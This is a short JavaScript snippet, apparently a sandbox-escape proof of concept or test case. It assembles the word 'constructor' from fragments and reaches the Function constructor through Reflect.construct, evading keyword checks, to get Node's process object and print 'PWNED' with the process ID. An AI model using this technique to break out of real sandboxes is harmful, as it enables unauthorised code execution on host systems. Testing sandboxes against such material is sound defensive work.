'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
class A { constructor(f) { this.f = f && f[w]; } }
new A();
const table = { make: Reflect.construct };
const k = ['ma', 'ke'].join('');
console.log('PWNED', table[k](A, [fn]).f('return process')().pid);
